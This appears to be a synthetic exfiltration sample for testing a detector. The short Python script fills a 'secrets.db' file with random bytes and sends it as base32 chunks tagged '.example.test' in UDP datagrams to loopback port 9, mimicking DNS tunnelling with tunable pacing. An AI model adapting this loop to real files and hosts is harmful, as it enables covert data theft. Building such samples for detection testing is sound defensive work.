"""Sends its own made file as many tiny UDP datagrams to a closed loopback port, like DNS tunnels.

attack_type: exfiltration
severity: 0.7
arguments: DATAGRAMS PAUSE_S BURST
variants: 400 0.02 1 | 120 0.1 1 | 600 0.9 60
"""

import base64
import random
import socket
import sys
import time
from pathlib import Path

datagrams, pause, burst = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
Path("secrets.db").write_bytes(random.Random(3).randbytes(datagrams * 30))
with Path("secrets.db").open("rb") as file:
    for number in range(datagrams):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(base64.b32encode(file.read(30)) + b".example.test", ("127.0.0.1", 9))
        if number % burst == 0:
            time.sleep(pause)
